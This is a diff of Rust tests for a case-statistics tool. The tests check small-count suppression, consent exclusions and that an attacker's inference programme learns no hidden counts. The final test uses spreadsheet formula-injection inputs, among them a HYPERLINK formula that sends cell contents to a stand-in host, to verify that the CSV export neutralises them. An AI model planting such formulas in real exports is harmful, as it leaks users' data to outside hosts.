@@ -243,6 +243,15 @@ fn facts() -> Vec<Facts> {
         .collect()
 }
 
+/// The filter of a commission that counts refusals too (a documented legal
+/// basis): the hand counts below include case D.
+fn counting_refusals() -> Filter {
+    Filter {
+        include_without_consent: true,
+        ..Filter::default()
+    }
+}
+
 /// (value, count) rows of a one-dimension table, "unknown" for no value.
 fn counts(dimension: Dimension, filter: &Filter) -> Vec<(String, u64)> {
     let table = Table::count(&facts(), dimension, None, filter);
@@ -260,7 +269,7 @@ fn expect(dimension: Dimension, expected: &[(&str, u64)]) {
         .map(|(k, v)| ((*k).to_owned(), *v))
         .collect();
     assert_eq!(
-        counts(dimension, &Filter::default()),
+        counts(dimension, &counting_refusals()),
         expected,
         "{dimension:?}"
     );
@@ -360,7 +369,7 @@ fn every_dimension_counts_as_worked_out_by_hand() {
             ("FollowUp", 1),
         ],
     );
-    let table = Table::count(&facts(), Dimension::Form, None, &Filter::default());
+    let table = Table::count(&facts(), Dimension::Form, None, &counting_refusals());
     assert_eq!(table.total, 10);
     assert!(table.multi_valued());
     assert_eq!(table.unknown_rows(), 2);
@@ -373,32 +382,35 @@ fn filters_select_years_missions_statuses_and_consent() {
         total(Filter {
             from_year: Some(2025),
             to_year: Some(2025),
-            ..Filter::default()
+            ..counting_refusals()
         }),
         3
     );
     assert_eq!(
         total(Filter {
             mission: Some("LT-BER".into()),
-            ..Filter::default()
+            ..counting_refusals()
         }),
         4
     );
     assert_eq!(
         total(Filter {
             status: Some("Active".into()),
-            ..Filter::default()
+            ..counting_refusals()
         }),
         7
     );
-    // D refused anonymous statistics; B and others said nothing.
+    // D refused anonymous statistics; B and others said nothing. The
+    // refusal is respected unless the commission's setting says otherwise.
     assert_eq!(
         total(Filter {
             include_without_consent: false,
-            ..Filter::default()
+            ..counting_refusals()
         }),
         9
     );
+    assert_eq!(total(Filter::default()), 9);
+    assert_eq!(total(counting_refusals()), 10);
 }
 
 #[test]
@@ -407,7 +419,7 @@ fn two_cross_tables_count_as_worked_out_by_hand() {
         &facts(),
         Dimension::Gender,
         Some(Dimension::Minor),
-        &Filter::default(),
+        &counting_refusals(),
     );
     let rows: Vec<String> = table.rows.iter().map(casebook::stats::key_text).collect();
     let columns: Vec<String> = table
@@ -433,7 +445,7 @@ fn two_cross_tables_count_as_worked_out_by_hand() {
         &facts(),
         Dimension::Form,
         Some(Dimension::Year),
-        &Filter::default(),
+        &counting_refusals(),
     );
     let rows: Vec<String> = table.rows.iter().map(casebook::stats::key_text).collect();
     assert_eq!(
@@ -486,7 +498,7 @@ fn the_vault_keeps_the_facts_with_every_save_and_erasure() {
             .statistics(
                 Dimension::Gender,
                 Some(Dimension::AgeGroup),
-                &Filter::default(),
+                &counting_refusals(),
             )
             .unwrap_or_else(|e| panic!("{e}"))
     };
@@ -501,7 +513,7 @@ fn the_vault_keeps_the_facts_with_every_save_and_erasure() {
             &expected,
             Dimension::Gender,
             Some(Dimension::AgeGroup),
-            &Filter::default()
+            &counting_refusals()
         )
     );
     // An erased case is no longer counted; an edited one counts as edited.
@@ -524,7 +536,7 @@ fn the_vault_keeps_the_facts_with_every_save_and_erasure() {
             &expected,
             Dimension::Gender,
             Some(Dimension::AgeGroup),
-            &Filter::default()
+            &counting_refusals()
         )
     );
 }
@@ -646,7 +658,7 @@ fn check_protected(table: &Table, k: u64) {
 #[test]
 fn hidden_counts_cannot_be_solved_for_on_generated_data() {
     let today = date(2026, 11, 1);
-    let facts: Vec<Facts> = casebook::domain::synthetic::generate(11, 150, today)
+    let facts: Vec<Facts> = recorded(casebook::domain::synthetic::generate(11, 150, today))
         .map(|case| Facts::of(&case, "LT-LON"))
         .collect();
     let mut hidden = 0;
@@ -656,7 +668,7 @@ fn hidden_counts_cannot_be_solved_for_on_generated_data() {
         (Dimension::Status, Dimension::LabourIndustry),
     ] {
         for k in [3, 5, 10] {
-            let table = Table::count(&facts, rows_by, Some(columns_by), &Filter::default());
+            let table = Table::count(&facts, rows_by, Some(columns_by), &counting_refusals());
             check_protected(&table, k);
             hidden += suppress(&table, k).hidden();
         }
@@ -670,12 +682,14 @@ fn hidden_counts_cannot_be_solved_for_on_generated_data() {
 #[test]
 fn a_one_dimension_table_never_shows_a_lone_hidden_count() {
     let facts = facts();
-    let table = Table::count(&facts, Dimension::Gender, None, &Filter::default());
+    let table = Table::count(&facts, Dimension::Gender, None, &counting_refusals());
     // Feminine 5, Masculine 3, NonSpecifiedUnknown 1, unknown 1; total 10.
+    // Hiding the three small ones alone would leave 5 for them together, so
+    // Masculine could be at most 3: Feminine is hidden too.
     let published = suppress(&table, 5);
-    assert_eq!(published.row_totals, [false, true, true, true]);
+    assert_eq!(published.row_totals, [true, true, true, true]);
     assert!(!published.total);
-    let table = Table::count(&facts, Dimension::Mission, None, &Filter::default());
+    let table = Table::count(&facts, Dimension::Mission, None, &counting_refusals());
     // LT-BER 4 hidden, LT-LON 6: the smallest other count is hidden too.
     assert_eq!(suppress(&table, 5).row_totals, [true, true]);
 }
@@ -685,12 +699,12 @@ proptest! {
 
     #[test]
     fn no_table_of_random_cases_reveals_a_hidden_count(seed in any::<u64>(), count in 5usize..120, k in 2u64..8) {
-        let facts: Vec<Facts> = casebook::domain::synthetic::generate(seed, count, date(2026, 11, 1))
+        let facts: Vec<Facts> = recorded(casebook::domain::synthetic::generate(seed, count, date(2026, 11, 1)))
             .map(|case| Facts::of(&case, "LT-LON"))
             .collect();
-        let table = Table::count(&facts, Dimension::Gender, Some(Dimension::Minor), &Filter::default());
+        let table = Table::count(&facts, Dimension::Gender, Some(Dimension::Minor), &counting_refusals());
         check_protected(&table, k);
-        let table = Table::count(&facts, Dimension::Status, Some(Dimension::TraffickingStatus), &Filter::default());
+        let table = Table::count(&facts, Dimension::Status, Some(Dimension::TraffickingStatus), &counting_refusals());
         check_protected(&table, k);
     }
 }
@@ -698,15 +712,21 @@ proptest! {
 #[test]
 fn the_csv_reads_back_with_a_standard_reader_and_matches_the_table() {
     let facts = facts();
-    let filter = Filter::default();
+    let filter = counting_refusals();
     let table = Table::count(&facts, Dimension::Gender, Some(Dimension::Minor), &filter);
-    let text = table.to_csv(&filter, 3, date(2026, 11, 28));
+    let text = table
+        .to_csv(3, date(2026, 11, 28))
+        .unwrap_or_else(|e| panic!("{e}"));
     let comment = text.lines().next().unwrap_or_default();
     assert!(
         comment.starts_with("# Casebook statistics: cases by gender by minor;"),
         "{comment}"
     );
-    assert!(comment.contains("counts below 3 suppressed") && comment.contains("made 2026-11-28"));
+    assert!(
+        comment.contains("c = confidential: a count below 3")
+            && comment.contains("made 2026-11-28"),
+        "{comment}"
+    );
     let mut reader = csv::ReaderBuilder::new()
         .comment(Some(b'#'))
         .from_reader(text.as_bytes());
@@ -732,7 +752,7 @@ fn the_csv_reads_back_with_a_standard_reader_and_matches_the_table() {
         assert_eq!(record[0], casebook::stats::key_text(&table.rows[r]));
         for c in 0..table.columns.len() {
             let expected = if published.cells[r][c] {
-                "<3".to_owned()
+                "c".to_owned()
             } else {
                 table.cells[r][c].to_string()
             };
@@ -742,14 +762,440 @@ fn the_csv_reads_back_with_a_standard_reader_and_matches_the_table() {
     let last = &records[table.rows.len()];
     assert_eq!(last[0], "total");
     assert_eq!(last[last.len() - 1], "10");
-    // No count below 3 appears in clear; hidden ones read "<3", never 0.
+    // No count below 3 appears in clear; hidden ones read "c", never 0.
     for record in &records {
         for field in &record[1..] {
             if let Ok(n) = field.parse::<u64>() {
                 assert!(n == 0 || n >= 3, "{field} shown");
             } else {
-                assert_eq!(field, "<3");
+                assert_eq!(field, "c");
             }
         }
     }
+}
+
+/// The attacker's linear programme, written out here over every count of
+/// the table (independently of the library's own audit, which builds it
+/// over the hidden counts tied to each one; the same simplex solves both,
+/// and has its own tests in `stats::lp`): each published
+/// count is fixed at its value, a hidden cell below `k` lies in 1..k−1, any
+/// other hidden count (a total too) is at least 1; the sums hold exactly along a
+/// single-valued dimension, and along a multi-valued one the parts add up
+/// to at least the whole and none exceeds it. For each hidden count it
+/// minimises and maximises; returns the counts whose range says more than
+/// "between 1 and k−1" (primary) or is a single value (secondary).
+fn interval_attack(table: &Table, k: u64) -> Vec<String> {
+    use casebook::stats::lp::{Extreme, Programme, Relation};
+    let published = suppress(table, k);
+    let two = table.columns_by.is_some();
+    let (rows, columns) = (table.rows.len(), table.columns.len());
+    let mut values = Vec::new();
+    let mut hidden = Vec::new();
+    let mut names = Vec::new();
+    if two {
+        for r in 0..rows {
+            for c in 0..columns {
+                values.push(table.cells[r][c]);
+                hidden.push(published.cells[r][c]);
+                names.push(format!("cell {r},{c}"));
+            }
+        }
+    }
+    // Cells come first: those of a cross-table, or the values' counts of a
+    // one-dimension table. A small total is bounded only below (its parts
+    // are smaller by the rule alone; see `stats::suppress`).
+    let cells_end = if two { rows * columns } else { rows };
+    let row_total0 = values.len();
+    for r in 0..rows {
+        values.push(table.row_totals[r]);
+        hidden.push(published.row_totals[r]);
+        names.push(format!("row total {r}"));
+    }
+    let column_total0 = values.len();
+    for c in 0..columns {
+        values.push(table.column_totals[c]);
+        hidden.push(published.column_totals[c]);
+        names.push(format!("column total {c}"));
+    }
+    let total = values.len();
+    values.push(table.total);
+    hidden.push(published.total);
+    names.push("total".into());
+    for (i, value) in values.iter().enumerate() {
+        assert!(
+            hidden[i] || *value == 0 || *value >= k,
+            "{} = {value} is shown below {k}",
+            names[i]
+        );
+        assert!(!(hidden[i] && *value == 0), "{} is a hidden zero", names[i]);
+    }
+    // (whole, parts, exact)
+    let rows_exact = !table.rows_by.multi_valued();
+    let columns_exact = !table.columns_by.is_some_and(Dimension::multi_valued);
+    let mut sums: Vec<(usize, Vec<usize>, bool)> = vec![(
+        total,
+        (0..rows).map(|r| row_total0 + r).collect(),
+        rows_exact,
+    )];
+    if two {
+        for r in 0..rows {
+            sums.push((
+                row_total0 + r,
+                (0..columns).map(|c| r * columns + c).collect(),
+                columns_exact,
+            ));
+        }
+        for c in 0..columns {
+            sums.push((
+                column_total0 + c,
+                (0..rows).map(|r| r * columns + c).collect(),
+                rows_exact,
+            ));
+        }
+        sums.push((
+            total,
+            (0..columns).map(|c| column_total0 + c).collect(),
+            columns_exact,
+        ));
+    }
+    // Every count is a variable: a published one fixed at its value.
+    let mut programme = Programme::default();
+    let vars: Vec<usize> = (0..values.len())
+        .map(|i| {
+            if !hidden[i] {
+                programme.variable(values[i] as f64, values[i] as f64)
+            } else if values[i] < k && i < cells_end {
+                programme.variable(1.0, (k - 1) as f64)
+            } else {
+                programme.variable(1.0, f64::INFINITY)
+            }
+        })
+        .collect();
+    for (whole, parts, exact) in &sums {
+        let mut terms: Vec<(usize, f64)> = parts.iter().map(|p| (vars[*p], 1.0)).collect();
+        terms.push((vars[*whole], -1.0));
+        let relation = if *exact {
+            Relation::Equal
+        } else {
+            Relation::AtLeast
+        };
+        programme.constrain(terms, relation, 0.0);
+        if !exact {
+            for p in parts {
+                programme.constrain(
+                    vec![(vars[*p], 1.0), (vars[*whole], -1.0)],
+                    Relation::AtMost,
+                    0.0,
+                );
+            }
+        }
+    }
+    let mut leaks = Vec::new();
+    for target in (0..values.len()).filter(|i| hidden[*i]) {
+        let end = |greatest: bool| match programme.extreme(vars[target], greatest) {
+            Extreme::Value(v) => v,
+            Extreme::Unbounded => f64::INFINITY,
+            Extreme::Infeasible => panic!("the true table must be feasible"),
+        };
+        let (low, high) = (end(false), end(true));
+        let primary = values[target] < k && target < cells_end;
+        let fine = if primary {
+            low <= 1.0 + 1e-6 && high >= (k - 1) as f64 - 1e-6
+        } else {
+            high - low >= 1.0 - 1e-6
+        };
+        if !fine {
+            leaks.push(format!(
+                "{} = {} can be told to lie in {low}..{high}",
+                names[target], values[target]
+            ));
+        }
+    }
+    leaks
+}
+
+/// Facts of `n` cases with this gender (single-valued) and nothing else.
+fn of_gender(gender: &str, n: usize) -> impl Iterator<Item = Facts> + '_ {
+    (0..n).map(move |_| Facts {
+        year: 2026,
+        mission: "LT-LON".into(),
+        status: "Active".into(),
+        gender: Some(gender.into()),
+        ..Facts::default()
+    })
+}
+
+/// A table of two single-valued dimensions with these cells (labels do
+/// not matter to suppression).
+fn table_of(cells: &[Vec<u64>]) -> Table {
+    let rows = cells.len();
+    let columns = cells.first().map_or(0, Vec::len);
+    let row_totals: Vec<u64> = cells.iter().map(|r| r.iter().sum()).collect();
+    let column_totals: Vec<u64> = (0..columns)
+        .map(|c| cells.iter().map(|r| r[c]).sum())
+        .collect();
+    Table {
+        rows_by: Dimension::Gender,
+        columns_by: Some(Dimension::AgeGroup),
+        rows: (0..rows).map(|r| Some(format!("r{r}"))).collect(),
+        columns: (0..columns).map(|c| Some(format!("c{c}"))).collect(),
+        cells: cells.to_vec(),
+        total: row_totals.iter().sum(),
+        row_totals,
+        column_totals,
+        filter: Filter::default(),
+        left_out: Default::default(),
+        counted_despite_refusal: 0,
+    }
+}
+
+#[test]
+fn the_reproduced_gender_table_no_longer_gives_its_two_small_counts_away() {
+    // 22 cases by gender, 20 / 1 / 1: publishing Feminine 20 and the total
+    // 22 told a reader that the two hidden counts were 1 each.
+    let facts: Vec<Facts> = of_gender("Feminine", 20)
+        .chain(of_gender("Masculine", 1))
+        .chain(of_gender("TransgenderFeminine", 1))
+        .collect();
+    let table = Table::count(&facts, Dimension::Gender, None, &Filter::default());
+    assert_eq!(table.row_totals, [20, 1, 1]);
+    assert_eq!(interval_attack(&table, 5), Vec::<String>::new());
+    let published = suppress(&table, 5);
+    assert!(published.row_totals[1] && published.row_totals[2]);
+    assert!(
+        published.row_totals[0] || published.total,
+        "the 20 or the total is hidden as well: {published:?}"
+    );
+}
+
+#[test]
+fn a_cross_table_hides_until_its_small_counts_keep_their_whole_range() {
+    // Two minors in a column of 2: a column total of 2 over two hidden
+    // cells of at least 1 would fix both.
+    let table = table_of(&[vec![1, 20], vec![1, 30], vec![9, 12]]);
+    assert_eq!(interval_attack(&table, 5), Vec::<String>::new());
+    let table = table_of(&[vec![1, 1, 40], vec![1, 7, 6], vec![30, 2, 0]]);
+    assert_eq!(interval_attack(&table, 5), Vec::<String>::new());
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]
+
+    /// Random cross-tables, heavy in small counts and zeros: the attacker's
+    /// programme learns nothing from any published pattern.
+    #[test]
+    fn the_interval_attack_learns_nothing_from_any_random_cross_table(
+        cells in (1usize..6, 1usize..5).prop_flat_map(|(rows, columns)| {
+            proptest::collection::vec(
+                proptest::collection::vec(
+                    prop_oneof![4 => 0u64..5, 2 => 5u64..12, 1 => 12u64..60],
+                    columns,
+                ),
+                rows,
+            )
+        }),
+        k in 3u64..8,
+    ) {
+        let table = table_of(&cells);
+        prop_assert_eq!(interval_attack(&table, k), Vec::<String>::new());
+    }
+
+    /// Random one-dimension tables.
+    #[test]
+    fn the_interval_attack_learns_nothing_from_any_random_list(
+        counts in proptest::collection::vec(prop_oneof![3 => 1u64..5, 1 => 5u64..40], 1..9),
+        k in 3u64..8,
+    ) {
+        let facts: Vec<Facts> = counts
+            .iter()
+            .enumerate()
+            .flat_map(|(i, n)| {
+                (0..*n).map(move |_| Facts {
+                    year: 2000 + i as i32,
+                    ..Facts::default()
+                })
+            })
+            .collect();
+        let table = Table::count(&facts, Dimension::Year, None, &Filter::default());
+        prop_assert_eq!(interval_attack(&table, k), Vec::<String>::new());
+    }
+
+    /// Tables of generated cases, multi-valued dimensions among them: the
+    /// programme with "parts at least the whole" learns nothing either.
+    #[test]
+    fn the_interval_attack_learns_nothing_from_tables_of_random_cases(
+        seed in any::<u64>(),
+        count in 5usize..60,
+        k in 3u64..8,
+    ) {
+        let facts: Vec<Facts> = recorded(casebook::domain::synthetic::generate(seed, count, date(2026, 11, 1)))
+            .map(|case| Facts::of(&case, "LT-LON"))
+            .collect();
+        for (rows_by, columns_by) in [
+            (Dimension::Gender, Some(Dimension::Minor)),
+            (Dimension::Form, Some(Dimension::Gender)),
+            (Dimension::AgeGroup, Some(Dimension::TraffickingStatus)),
+            (Dimension::Form, None),
+        ] {
+            let table = Table::count(&facts, rows_by, columns_by, &counting_refusals());
+            prop_assert_eq!(interval_attack(&table, k), Vec::<String>::new(), "{:?} by {:?}", rows_by, columns_by);
+        }
+    }
+}
+
+#[test]
+fn every_hidden_count_has_the_same_neutral_mark_and_the_comment_says_what_it_means() {
+    // 20 / 1: both are hidden, and "<5" beside the 20 was false and told
+    // which one was the big one.
+    let facts: Vec<Facts> = of_gender("Feminine", 20)
+        .chain(of_gender("Masculine", 1))
+        .collect();
+    let table = Table::count(&facts, Dimension::Gender, None, &Filter::default());
+    let text = table
+        .to_csv(5, date(2026, 11, 28))
+        .unwrap_or_else(|e| panic!("{e}"));
+    let lines: Vec<&str> = text.lines().collect();
+    assert_eq!(
+        lines[1..],
+        ["gender,cases", "Feminine,c", "Masculine,c", "total,21"]
+    );
+    assert!(
+        lines[0].contains("c = confidential: a count below 5 or a count hidden so that none below 5 can be worked out"),
+        "{}",
+        lines[0]
+    );
+    assert!(!text.contains('<'), "{text}");
+}
+
+#[test]
+fn a_table_is_never_written_with_a_threshold_below_three() {
+    let table = Table::count(&facts(), Dimension::Gender, None, &Filter::default());
+    for k in [0, 1, 2] {
+        assert_eq!(
+            table.to_csv(k, date(2026, 11, 28)),
+            Err(casebook::stats::Error::ThresholdTooLow(k))
+        );
+    }
+    assert!(table.to_csv(3, date(2026, 11, 28)).is_ok());
+}
+
+#[test]
+fn the_csv_states_the_filters_the_table_was_counted_with() {
+    let counted_with = Filter {
+        from_year: Some(2026),
+        mission: Some("LT-LON".into()),
+        ..Filter::default()
+    };
+    let table = Table::count(&facts(), Dimension::Gender, None, &counted_with);
+    let text = table
+        .to_csv(5, date(2026, 11, 28))
+        .unwrap_or_else(|e| panic!("{e}"));
+    let comment = text.lines().next().unwrap_or_default();
+    assert!(
+        comment.contains("years from 2026; mission LT-LON; status any"),
+        "{comment}"
+    );
+}
+
+#[test]
+fn synthetic_cases_are_never_counted_and_the_table_says_how_many_were_left_out() {
+    let today = date(2026, 11, 1);
+    let generated: Vec<Facts> = casebook::domain::synthetic::generate(4, 25, today)
+        .map(|case| Facts::of(&case, "LT-LON"))
+        .collect();
+    assert!(generated.iter().all(|f| f.synthetic));
+    let mut facts = facts();
+    facts.extend(generated);
+    for filter in [Filter::default(), counting_refusals()] {
+        let table = Table::count(&facts, Dimension::Year, None, &filter);
+        assert_eq!(table.left_out.synthetic, 25);
+        assert_eq!(
+            table.total,
+            if filter.include_without_consent {
+                10
+            } else {
+                9
+            }
+        );
+    }
+    let table = Table::count(&facts, Dimension::Year, None, &Filter::default());
+    let comment = table
+        .to_csv(5, today)
+        .unwrap_or_default()
+        .lines()
+        .next()
+        .unwrap_or_default()
+        .to_owned();
+    assert!(
+        comment.contains("25 synthetic (training) cases left out"),
+        "{comment}"
+    );
+}
+
+#[test]
+fn a_refusal_is_left_out_by_default_and_every_table_says_how_many() {
+    // Case D refused anonymous statistics.
+    let table = Table::count(&facts(), Dimension::Gender, None, &Filter::default());
+    assert_eq!(table.total, 9);
+    assert_eq!(table.left_out.refused, 1);
+    let comment = table.to_csv(5, date(2026, 11, 28)).unwrap_or_default();
+    assert!(
+        comment.contains("1 cases left out because the person refused anonymous statistics"),
+        "{comment}"
+    );
+    // A commission with another documented legal basis counts them, and
+    // the table says so.
+    let table = Table::count(&facts(), Dimension::Gender, None, &counting_refusals());
+    assert_eq!(table.total, 10);
+    assert_eq!(table.counted_despite_refusal, 1);
+    let comment = table.to_csv(5, date(2026, 11, 28)).unwrap_or_default();
+    assert!(
+        comment.contains("1 cases whose person refused anonymous statistics counted"),
+        "{comment}"
+    );
+}
+
+#[test]
+fn a_formula_in_a_mission_code_reaches_a_spreadsheet_as_text() {
+    let formula = "=HYPERLINK(\"http://example.org/?\"&A1,\"open\")";
+    let facts: Vec<Facts> = ["+1-2", "-3", "@SUM(A1)", "\tTAB", formula, "LT-LON"]
+        .iter()
+        .flat_map(|mission| {
+            (0..6).map(move |_| Facts {
+                year: 2026,
+                mission: (*mission).to_owned(),
+                status: "Active".into(),
+                ..Facts::default()
+            })
+        })
+        .collect();
+    let table = Table::count(&facts, Dimension::Mission, None, &Filter::default());
+    let text = table
+        .to_csv(5, date(2026, 11, 28))
+        .unwrap_or_else(|e| panic!("{e}"));
+    let mut reader = csv::ReaderBuilder::new()
+        .comment(Some(b'#'))
+        .from_reader(text.as_bytes());
+    let mut missions = Vec::new();
+    for record in reader.records() {
+        let record = record.unwrap_or_else(|e| panic!("{e}"));
+        let first = record.get(0).unwrap_or_default().to_owned();
+        assert!(
+            !first.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{first:?} would be a formula"
+        );
+        // Counts stay plain numbers.
+        assert!(record.get(1).unwrap_or_default().parse::<u64>().is_ok());
+        missions.push(first);
+    }
+    assert!(missions.contains(&format!("'{formula}")), "{missions:?}");
+    assert!(missions.contains(&"'-3".to_owned()), "{missions:?}");
+    assert!(missions.contains(&"LT-LON".to_owned()), "{missions:?}");
+    // The field is quoted in the file itself, and the comment line stays
+    // one cell (no comma for a spreadsheet to split it at).
+    assert!(text.contains("\"'=HYPERLINK("), "{text}");
+    assert!(
+        !text.lines().next().unwrap_or_default().contains(','),
+        "{text}"
+    );
 }
